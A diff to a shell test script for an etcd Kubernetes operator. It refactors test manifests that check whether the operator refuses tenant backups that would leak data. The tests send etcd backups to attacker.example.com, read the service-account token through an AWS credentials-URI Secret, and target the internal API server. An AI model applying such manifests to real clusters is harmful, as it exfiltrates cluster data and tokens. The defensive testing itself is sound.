@@ -51,7 +51,28 @@ YAML
 
 # A tenant's EtcdBackup cannot point the operator inside the cluster (here at the API server, by
 # name) nor have it send its own service-account token somewhere: both are refused, saying why.
-kubectl apply -f - >/dev/null <<YAML
+# outside_backup NAME SECRET [ENDPOINT]: an EtcdBackup of demo with SECRET's credentials, to an
+# endpoint outside the cluster unless one is given.
+outside_backup() {
+  cat <<YAML
+apiVersion: etcd.etcd.io/v1alpha1
+kind: EtcdBackup
+metadata:
+  name: $1
+spec:
+  clusterRef:
+    name: demo
+  destination:
+    s3:
+      bucket: etcd-backups
+      endpoint: ${3:-https://attacker.example.com}
+      forcePathStyle: true
+  credentialsSecretRef:
+    name: $2
+YAML
+}
+{
+  cat <<YAML
 apiVersion: v1
 kind: Secret
 metadata:
@@ -59,36 +80,12 @@ metadata:
 stringData:
   AWS_CONTAINER_CREDENTIALS_FULL_URI: $S3/steal
   AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE: /var/run/secrets/kubernetes.io/serviceaccount/token
----
-apiVersion: etcd.etcd.io/v1alpha1
-kind: EtcdBackup
-metadata:
-  name: steal-token
-spec:
-  clusterRef:
-    name: demo
-  destination:
-    s3:
-      bucket: etcd-backups
-      endpoint: https://attacker.example.com
-  credentialsSecretRef:
-    name: token-thief
----
-apiVersion: etcd.etcd.io/v1alpha1
-kind: EtcdBackup
-metadata:
-  name: to-apiserver
-spec:
-  clusterRef:
-    name: demo
-  destination:
-    s3:
-      bucket: etcd-backups
-      endpoint: https://kubernetes.default.svc
-      forcePathStyle: true
-  credentialsSecretRef:
-    name: backup-credentials
 YAML
+  echo ---
+  outside_backup steal-token token-thief
+  echo ---
+  outside_backup to-apiserver backup-credentials https://kubernetes.default.svc
+} | kubectl apply -f - >/dev/null
 ready_message() { kubectl get etcdbackup "$1" -o jsonpath='{.status.conditions[?(@.type=="Ready")].message}'; }
 token_refused() { ready_message steal-token | grep -q 'AWS_CONTAINER_CREDENTIALS_FULL_URI are not credentials the operator takes'; }
 apiserver_refused() { ready_message to-apiserver | grep -q 'kubernetes.default.svc is .*--backup-endpoint-allow'; }
@@ -121,22 +118,7 @@ subjects:
     kind: User
     name: mallory
 YAML
-if out=$(kubectl --as=mallory create -f - 2>&1 <<YAML
-apiVersion: etcd.etcd.io/v1alpha1
-kind: EtcdBackup
-metadata:
-  name: borrowed-credentials
-spec:
-  clusterRef:
-    name: demo
-  destination:
-    s3:
-      bucket: etcd-backups
-      endpoint: https://attacker.example.com
-  credentialsSecretRef:
-    name: backup-credentials
-YAML
-); then
+if out=$(outside_backup borrowed-credentials backup-credentials | kubectl --as=mallory create -f - 2>&1); then
   fail "mallory named a Secret she cannot read: $out"
 fi
 echo "$out" | grep -q "spec.credentialsSecretRef: mallory may not read Secret backup-credentials" \
